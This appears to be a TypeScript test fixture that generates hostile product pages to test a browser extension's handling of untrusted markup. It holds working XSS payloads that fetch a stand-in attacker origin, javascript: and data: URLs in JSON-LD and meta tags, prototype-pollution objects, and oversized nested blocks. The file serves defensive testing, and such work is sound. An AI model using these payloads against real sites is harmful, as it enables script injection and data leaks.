/**
 * Hostile store pages for the trust tests: markup and URLs that try to run code or leak data through the extension.
 * `attacker` is an origin the page would like to reach; any request that arrives there is journalled.
 */
export function hostilePage(name: string, attacker: string): string | undefined {
  const beacon = (tag: string) => `${attacker}/attacker/${tag}`;
  const xss = `<img src=x onerror="fetch('${beacon('onerror')}')"><script>fetch('${beacon('script')}');alert(1)</script>`;
  const product = {
    '@context': 'https://schema.org',
    '@type': 'Product',
    name: `Evil Kettle ${xss}`,
    brand: { '@type': 'Brand', name: `<b onmouseover="alert(1)">Brand</b>`, ['__proto__']: { polluted: true } },
    sku: 'EVIL-1',
    gtin13: '2000000000008',
    url: 'javascript:alert(document.domain)',
    image: [`javascript:fetch('${beacon('image')}')`, `data:image/svg+xml,<svg onload="alert(1)"/>`],
    description: `<iframe src="${beacon('iframe')}"></iframe>`,
    offers: {
      '@type': 'Offer',
      price: '19.99',
      priceCurrency: 'USD',
      availability: 'https://schema.org/InStock',
      url: `javascript:fetch('${beacon('offer')}')`,
    },
    constructor: { prototype: { polluted: true } },
  };
  const json = (value: unknown) => JSON.stringify(value).replace(/</g, '\\u003c');
  let extra = '';
  if (name === 'huge') {
    // About 3 MB of JSON-LD in one block, and a block nested 5,000 levels deep.
    const filler = Array.from({ length: 30_000 }, (_, i) => ({ '@type': 'Thing', name: `filler ${i} ${'x'.repeat(60)}` }));
    extra += `<script type="application/ld+json">${json({ '@graph': filler })}</script>`;
    extra += `<script type="application/ld+json">${'['.repeat(5000)}1${']'.repeat(5000)}</script>`;
    extra += `<div>${'<div>'.repeat(3000)}deep${'</div>'.repeat(3000)}</div>`;
  }
  if (name !== 'product' && name !== 'huge') return undefined;
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Evil Kettle</title>
<link rel="icon" href="data:,">
<link rel="canonical" href="javascript:alert(1)">
<meta property="og:type" content="product">
<meta property="og:title" content="${'&lt;script&gt;alert(1)&lt;/script&gt;'}">
<meta property="og:url" content="javascript:alert(1)">
<meta property="og:image" content="javascript:alert(1)">
<script type="application/ld+json">{ this is not json </script>
<script type="application/ld+json">${json(product)}</script>
<script type="application/ld+json">{"__proto__": {"polluted": true}, "@type": "Product", "name": "Proto"}</script>
${extra}
</head><body>
<h1>Evil Kettle</h1>
<div itemscope itemtype="https://schema.org/Product">
  <span itemprop="name">Evil &lt;script&gt;alert(2)&lt;/script&gt;</span>
  <a itemprop="url" href="javascript:alert(3)">link</a>
  <div itemprop="offers" itemscope itemtype="https://schema.org/Offer"><span itemprop="price" content="19.99">$19.99</span>
  <meta itemprop="priceCurrency" content="USD"></div>
</div>
<p>$19.99</p><button>Add to cart</button>
</body></html>`;
}
